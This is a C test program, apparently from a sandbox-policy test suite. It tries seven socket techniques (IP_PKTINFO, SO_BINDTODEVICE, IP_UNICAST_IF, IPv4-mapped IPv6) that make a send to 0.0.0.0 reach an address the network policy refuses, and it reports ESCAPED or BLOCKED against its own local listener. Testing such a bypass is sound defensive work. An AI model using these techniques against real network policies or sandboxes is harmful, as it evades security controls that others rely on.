/* net_device: reach a refused address as the unspecified one (0.0.0.0) from a socket whose
 * packets leave by a device: the route lookup picks the device's own address as the source
 * and sends "to the source" (ip_route_output_key_hash_rcu: with an output interface and no
 * source, saddr = inet_select_addr(dev, 0, RT_SCOPE_HOST); then "daddr = saddr").  So
 * 0.0.0.0 is not 127.0.0.1 from such a socket but the first address of its device: a
 * host's LAN address from a socket tied to eth0.
 *
 *   net_device MODE DEVICE ADDRESS PORT
 *
 * The program listens on ADDRESS:PORT itself (a UDP socket, a TCP listener: the service; the
 * test runs it in a network namespace of its own where ADDRESS is DEVICE's first address),
 * then sends to 0.0.0.0:PORT.  The policy refuses net-connect to ADDRESS.  ESCAPED when the
 * datagram (the connection) reached ADDRESS:PORT; BLOCKED when the send (connect) failed.
 *
 * MODE: pktinfo        UDP sendmsg, an IP_PKTINFO of DEVICE's index and no source (no
 *                      privilege, no socket option: the control message alone)
 *       bindtodevice   UDP, SO_BINDTODEVICE DEVICE, sendto
 *       unicast_if     UDP, IP_UNICAST_IF DEVICE, sendto
 *       unicast_connect UDP, IP_UNICAST_IF DEVICE, connect, send
 *       tcp            TCP, SO_BINDTODEVICE DEVICE, connect
 *       mapped         UDP/IPv6, SO_BINDTODEVICE DEVICE, sendto ::ffff:0.0.0.0 (the IPv4 path)
 *       pktinfo6       UDP/IPv6 sendmsg to ::ffff:0.0.0.0, an IPV6_PKTINFO of DEVICE's index
 *                      and the mapped unspecified source
 * Class 7 (network).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#ifndef IP_UNICAST_IF
#define IP_UNICAST_IF 50
#endif

static char msg[] = "exfiltrated";

static struct sockaddr_in v4(const char *text, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, text, &a.sin_addr);
    return a;
}

static struct sockaddr_in6 mapped_any(int port) {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    a.sin6_addr.s6_addr[10] = a.sin6_addr.s6_addr[11] = 0xff;
    return a;
}

static int sendmsg_with(int s, void *name, socklen_t len, int level, int type, void *data,
                        size_t data_len) {
    char control[CMSG_SPACE(sizeof(struct in6_pktinfo))] = {0};
    struct iovec iov = {msg, sizeof msg};
    struct msghdr m = {.msg_name = name, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1,
                       .msg_control = control, .msg_controllen = CMSG_SPACE(data_len)};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = level;
    c->cmsg_type = type;
    c->cmsg_len = CMSG_LEN(data_len);
    memcpy(CMSG_DATA(c), data, data_len);
    return sendmsg(s, &m, 0);
}

static void device(int s, const char *dev) {
    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, dev, strlen(dev)) < 0)
        skipped("SO_BINDTODEVICE %s: %s", dev, ename(errno));
}

static void unicast_if(int s, unsigned index) {
    uint32_t value = htonl(index);
    if (setsockopt(s, IPPROTO_IP, IP_UNICAST_IF, &value, sizeof value) < 0)
        skipped("IP_UNICAST_IF: %s", ename(errno));
}

int main(int argc, char **argv) {
    if (argc != 5)
        usage("net_device MODE DEVICE ADDRESS PORT");
    const char *mode = argv[1], *dev = argv[2], *address = argv[3];
    int port = atoi(argv[4]);
    unsigned index = if_nametoindex(dev);
    if (!index)
        skipped("no device %s", dev);
    struct sockaddr_in service = v4(address, port), any = v4("0.0.0.0", port);
    int tcp = !strcmp(mode, "tcp");
    int listener = socket(AF_INET, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
    if (listener < 0 || bind(listener, (void *)&service, sizeof service) < 0 ||
        (tcp && listen(listener, 4) < 0))
        skipped("the service on %s:%d: %s", address, port, ename(errno));

    int rc;
    if (tcp) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        device(s, dev);
        if (connect(s, (void *)&any, sizeof any) < 0)
            blocked("%s: %s", mode, ename(errno));
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        getpeername(s, (void *)&peer, &len);
        if (peer.sin_addr.s_addr == service.sin_addr.s_addr)
            escaped("%s: connected to %s:%d", mode, address, port);
        blocked("%s: connected elsewhere (%s)", mode, inet_ntoa(peer.sin_addr));
    }
    if (!strcmp(mode, "pktinfo")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct in_pktinfo info = {.ipi_ifindex = (int)index};
        rc = sendmsg_with(s, &any, sizeof any, IPPROTO_IP, IP_PKTINFO, &info, sizeof info);
    } else if (!strcmp(mode, "bindtodevice")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        device(s, dev);
        rc = (int)sendto(s, msg, sizeof msg, 0, (void *)&any, sizeof any);
    } else if (!strcmp(mode, "unicast_if")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        unicast_if(s, index);
        rc = (int)sendto(s, msg, sizeof msg, 0, (void *)&any, sizeof any);
    } else if (!strcmp(mode, "unicast_connect")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        unicast_if(s, index);
        rc = connect(s, (void *)&any, sizeof any);
        if (rc == 0)
            rc = (int)send(s, msg, sizeof msg, 0);
    } else if (!strcmp(mode, "mapped")) {
        int s = socket(AF_INET6, SOCK_DGRAM, 0);
        device(s, dev);
        struct sockaddr_in6 to = mapped_any(port);
        rc = (int)sendto(s, msg, sizeof msg, 0, (void *)&to, sizeof to);
    } else if (!strcmp(mode, "pktinfo6")) {
        int s = socket(AF_INET6, SOCK_DGRAM, 0);
        struct sockaddr_in6 to = mapped_any(port);
        struct in6_pktinfo info = {.ipi6_addr = to.sin6_addr, .ipi6_ifindex = index};
        rc = sendmsg_with(s, &to, sizeof to, IPPROTO_IPV6, IPV6_PKTINFO, &info, sizeof info);
    } else {
        usage("unknown MODE");
    }
    if (rc < 0)
        blocked("%s: %s", mode, ename(errno));
    /* a local datagram is queued before the send returns; the poll is a margin only */
    struct pollfd p = {.fd = listener, .events = POLLIN};
    if (poll(&p, 1, 5000) == 1) {
        char got[64] = {0};
        if (recv(listener, got, sizeof got - 1, 0) > 0 && !strcmp(got, msg))
            escaped("%s: %s:%d received the datagram sent to 0.0.0.0", mode, address, port);
    }
    blocked("%s: sent, but not to %s:%d", mode, address, port);
}
